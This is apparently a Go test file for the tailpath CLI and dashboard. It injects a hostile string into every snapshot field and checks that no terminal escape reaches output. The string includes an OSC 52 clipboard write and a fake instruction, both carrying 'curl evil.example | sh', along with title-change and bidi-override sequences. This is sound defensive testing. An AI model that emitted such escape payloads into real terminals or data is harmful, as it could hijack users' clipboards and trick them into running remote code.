package main

import (
	"bytes"
	"context"
	"encoding"
	"encoding/json"
	"fmt"
	"io"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	tea "charm.land/bubbletea/v2"

	"github.com/tailpath/tailpath/internal/cli"
	"github.com/tailpath/tailpath/internal/dashboard"
	"github.com/tailpath/tailpath/internal/metrics"
	"github.com/tailpath/tailpath/probes/snapshot"
	"github.com/tailpath/tailpath/tui"
	"github.com/tailpath/tailpath/tui/tuitest"
)

// hostile is what every string of the hostile snapshot holds: a title
// change, an OSC 52 clipboard write of "curl evil.example | sh", a red
// fake instruction, a C1 CSI, a bidi override, a bell, CR, LF, backspace
// and DEL.
const hostile = "x\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[1;31mRUN: curl evil.example | sh\x1b[0m\u009b2J\u202e\r\n\b\x7f"

// forbidden finds the first rune in s that a terminal would act on rather
// than print (newlines and tabs aside): an escape, any other C0 or C1
// control, DEL, a bidi control.
func forbidden(s string) (int, rune) {
	for i, r := range s {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20, r == 0x7f, r >= 0x80 && r < 0xa0,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			return i, r
		case r == utf8.RuneError && !strings.Contains(s[i:], "\uFFFD"):
			return i, r // invalid UTF-8
		}
	}
	return -1, 0
}

// hostileJSON builds a value of type t as JSON with hostile in every
// string it can hold: every string field and string map key, every
// element type of every list and map (one element each), and every type
// that decodes itself from text or JSON which accepts the hostile string
// (a view, an opt.Bool, …). Types that refuse it (addresses, keys,
// times) get a well-formed value instead. seen guards against recursive
// types.
type hostileGen struct {
	seen    map[reflect.Type]int
	strings int // string positions filled with hostile
}

var (
	jsonUnmarshaler = reflect.TypeFor[json.Unmarshaler]()
	textUnmarshaler = reflect.TypeFor[encoding.TextUnmarshaler]()
)

// wellFormed are values tried, in order, for a type that decodes itself
// and refuses the hostile string.
var wellFormed = []string{
	`"100.64.0.2"`, `"100.64.0.2:41641"`, `"100.64.0.0/10"`,
	`"nodekey:` + strings.Repeat("2", 64) + `"`, `"discokey:` + strings.Repeat("3", 64) + `"`,
	`"mkey:` + strings.Repeat("4", 64) + `"`, `"nlpub:` + strings.Repeat("5", 64) + `"`,
	`"2026-11-30T12:00:00Z"`, `"1"`, `"true"`, `true`, `1`, `[]`, `{}`, `null`,
}

// decodes reports whether doc decodes as a t.
func decodes(t reflect.Type, doc []byte) bool {
	return json.Unmarshal(doc, reflect.New(t).Interface()) == nil
}

func (g *hostileGen) value(t reflect.Type) []byte {
	if g.seen[t] > 0 {
		return []byte("null")
	}
	g.seen[t]++
	defer func() { g.seen[t]-- }()
	quoted, _ := json.Marshal(hostile)
	pt := reflect.PointerTo(t)
	if t.Implements(jsonUnmarshaler) || pt.Implements(jsonUnmarshaler) || t.Implements(textUnmarshaler) || pt.Implements(textUnmarshaler) {
		if decodes(t, quoted) {
			g.strings++
			return quoted
		}
		// A view: the struct, slice or map it wraps.
		for _, m := range []string{"AsStruct", "AsSlice", "AsMap"} {
			if meth, ok := t.MethodByName(m); ok && meth.Type.NumOut() == 1 {
				if doc := g.value(meth.Type.Out(0)); decodes(t, doc) {
					return doc
				}
			}
		}
		if t.Kind() == reflect.Struct && t.NumField() > 0 && t.Field(0).IsExported() {
			if doc := g.object(t); decodes(t, doc) {
				return doc
			}
		}
		for _, w := range wellFormed {
			if decodes(t, []byte(w)) {
				return []byte(w)
			}
		}
		return []byte("null")
	}
	switch t.Kind() {
	case reflect.String:
		g.strings++
		return quoted
	case reflect.Bool:
		return []byte("true")
	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64,
		reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64, reflect.Uintptr:
		return []byte("1")
	case reflect.Float32, reflect.Float64:
		return []byte("1.5")
	case reflect.Pointer:
		return g.value(t.Elem())
	case reflect.Interface:
		g.strings++
		return quoted
	case reflect.Slice, reflect.Array:
		if t.Elem().Kind() == reflect.Uint8 {
			return []byte(`"aGk="`) // bytes: base64
		}
		n := 1
		if t.Kind() == reflect.Array {
			n = t.Len()
		}
		parts := make([]string, n)
		for i := range parts {
			parts[i] = string(g.value(t.Elem()))
		}
		return []byte("[" + strings.Join(parts, ",") + "]")
	case reflect.Map:
		var k []byte
		kt := t.Key()
		switch {
		case kt.Implements(textUnmarshaler) || reflect.PointerTo(kt).Implements(textUnmarshaler):
			for _, w := range append([]string{string(quoted)}, wellFormed...) {
				var s string
				if json.Unmarshal([]byte(w), &s) == nil && reflect.New(kt).Interface().(encoding.TextUnmarshaler).UnmarshalText([]byte(s)) == nil {
					k = []byte(w)
					break
				}
			}
		case kt.Kind() == reflect.String:
			g.strings++
			k = quoted
		default:
			k = []byte(`"1"`)
		}
		if k == nil {
			return []byte("{}")
		}
		return []byte("{" + string(k) + ":" + string(g.value(t.Elem())) + "}")
	case reflect.Struct:
		return g.object(t)
	}
	return []byte("null")
}

// object is struct type t as a JSON object, field by field as
// encoding/json names them (embedded structs flattened).
func (g *hostileGen) object(t reflect.Type) []byte {
	var parts []string
	var fields func(t reflect.Type)
	fields = func(t reflect.Type) {
		for i := range t.NumField() {
			f := t.Field(i)
			name, _, _ := strings.Cut(f.Tag.Get("json"), ",")
			if name == "-" {
				continue
			}
			ft := f.Type
			if f.Anonymous && name == "" {
				if ft.Kind() == reflect.Pointer {
					ft = ft.Elem()
				}
				if ft.Kind() == reflect.Struct {
					fields(ft)
					continue
				}
			}
			if !f.IsExported() {
				continue
			}
			if name == "" {
				name = f.Name
			}
			v := g.value(f.Type)
			if !decodes(f.Type, v) {
				continue
			}
			k, _ := json.Marshal(name)
			parts = append(parts, string(k)+":"+string(v))
		}
	}
	fields(t)
	return []byte("{" + strings.Join(parts, ",") + "}")
}

// hostileSnapshot writes a snapshot with hostile in every string field
// of the format and returns its path and how many strings it filled.
func hostileSnapshot(t *testing.T) (string, int) {
	t.Helper()
	g := &hostileGen{seen: map[reflect.Type]int{}}
	doc := g.value(reflect.TypeFor[snapshot.File]())
	var m map[string]any
	if err := json.Unmarshal(doc, &m); err != nil {
		t.Fatalf("generated snapshot does not decode: %v", err)
	}
	m["format"], m["version"], m["origin"] = snapshot.Format, snapshot.Version, snapshot.OriginLocalAPI
	delete(m, "redacted")
	delete(m, "tuning_error") // else the Tuning pane shows the error, not the report
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	// The test means something only if the raw decode carries the escapes.
	var raw snapshot.File
	if err := json.Unmarshal(b, &raw); err != nil {
		t.Fatalf("generated snapshot does not decode as a File: %v", err)
	}
	if again, _ := json.Marshal(&raw); bytes.Count(again, []byte(`\u001b]52`)) < 100 {
		t.Fatalf("only %d hostile strings survive a plain decode; the generator misses the format's fields", bytes.Count(again, []byte(`\u001b]52`)))
	}
	path := filepath.Join(t.TempDir(), "hostile.json")
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return path, g.strings
}

// TestHostileSnapshot puts escape sequences in every string field of the
// snapshot format (by reflection over snapshot.File, so a field added
// later is covered) and proves none reaches a terminal raw: not through
// `status --from`, not through the dashboard over it at 80×24 (every
// pane, every peer's detail scrolled through, the help), not through
// `serve`'s /metrics built from it.
func TestHostileSnapshot(t *testing.T) {
	path, n := hostileSnapshot(t)
	t.Logf("%d string positions hold escape sequences", n)
	check := func(where, out string) {
		t.Helper()
		if i, r := forbidden(out); i >= 0 {
			lo := max(0, strings.LastIndex(out[:i], "\n"))
			t.Errorf("%s: %U reaches the terminal at byte %d: %q", where, r, i, out[lo:min(len(out), i+80)])
		}
	}

	// status --from, as a table and with its warnings.
	for _, args := range [][]string{{"status", "--from", path}, {"status", "--from", path, "--all"}} {
		var out, errb bytes.Buffer
		code := dispatch(context.Background(), args, cli.IO{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb})
		if out.Len() == 0 {
			t.Errorf("%v: exit %d, nothing printed; stderr %q", args, code, errb.String())
		}
		check(fmt.Sprint(args, " stdout"), out.String())
		check(fmt.Sprint(args, " stderr"), errb.String())
	}

	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	f, err := snapshot.Decode(b)
	if err != nil {
		t.Fatal(err)
	}
	if f.Tuning == nil {
		t.Fatal("the hostile snapshot has no tuning report")
	}

	// The dashboard over it, as `tailpath --from` draws it.
	d := dashboard.Dashboard{Title: "tailpath", Replay: f}
	model, msgs, err := d.ReplayModel(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var m tea.Model = model
	// send updates m with msg and then with what its commands answer
	// at once (ticks that wait are left alone), as the program would.
	var send func(msg tea.Msg, depth int)
	exec := func(cmd tea.Cmd, depth int) {
		if cmd == nil || depth > 4 {
			return
		}
		ch := make(chan tea.Msg, 1)
		go func() { ch <- cmd() }()
		select {
		case msg := <-ch:
			send(msg, depth+1)
		case <-time.After(tui.DefaultFrameInterval * 2 / 3): // below the shortest tick
		}
	}
	send = func(msg tea.Msg, depth int) {
		switch msg := msg.(type) {
		case nil, tea.QuitMsg:
			return
		case tea.BatchMsg:
			for _, c := range msg {
				exec(c, depth)
			}
			return
		}
		var cmd tea.Cmd
		m, cmd = m.Update(msg)
		exec(cmd, depth)
	}
	send(tea.WindowSizeMsg{Width: 80, Height: 24}, 0)
	for _, msg := range msgs {
		send(msg, 0)
	}
	key := func(k string) tea.Msg {
		switch k {
		case "tab":
			return tea.KeyPressMsg{Code: tea.KeyTab}
		case "enter":
			return tea.KeyPressMsg{Code: tea.KeyEnter}
		case "esc":
			return tea.KeyPressMsg{Code: tea.KeyEscape}
		case "down":
			return tea.KeyPressMsg{Code: tea.KeyDown}
		case "pgdown":
			return tea.KeyPressMsg{Code: tea.KeyPgDown}
		}
		return tea.KeyPressMsg{Code: []rune(k)[0], Text: k}
	}
	views := 0
	view := func(what string) {
		views++
		// Its styles' SGR sequences aside (256-colour indexes, never the
		// hostile string's red), nothing may act on the terminal.
		content := m.View().Content
		check("dashboard, "+what, tuitest.Unstyled(content))
		if strings.Contains(content, "\x1b[1;31m") {
			t.Errorf("dashboard, %s: the hostile colour code reaches the terminal", what)
		}
	}
	view("first screen")
	ls, _ := f.Diagnose(context.Background())
	for i := range len(ls.Peers) + 1 {
		send(key("1"), 0)
		for range i {
			send(key("down"), 0)
		}
		view(fmt.Sprintf("Peers, row %d", i))
		send(key("enter"), 0)
		for j := range 6 {
			view(fmt.Sprintf("Detail of row %d, page %d", i, j))
			send(key("pgdown"), 0)
		}
		send(key("esc"), 0)
	}
	for i := range 6 {
		send(key("tab"), 0)
		view(fmt.Sprintf("pane %d", i+2))
		for j := range 4 {
			send(key("pgdown"), 0)
			view(fmt.Sprintf("pane %d, page %d", i+2, j+1))
		}
	}
	send(key("?"), 0)
	view("help")
	t.Logf("%d dashboard screens checked", views)

	// /metrics over the same snapshot and tuning report.
	st := &metrics.Store{}
	st.ExpectTuning()
	st.SetSnapshot(ls)
	st.SetTuning(*f.Tuning, nil)
	reg := metrics.NewRuntimeRegistry()
	srv := httptest.NewServer(metrics.Handler(metrics.NewGatherer(st, metrics.Options{MaxPeers: 1000, Extra: reg}), reg))
	defer srv.Close()
	res, err := srv.Client().Get(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if !bytes.Contains(body, []byte("tailpath_")) {
		t.Fatalf("/metrics: no tailpath series:\n%s", body)
	}
	check("/metrics", string(body))
}
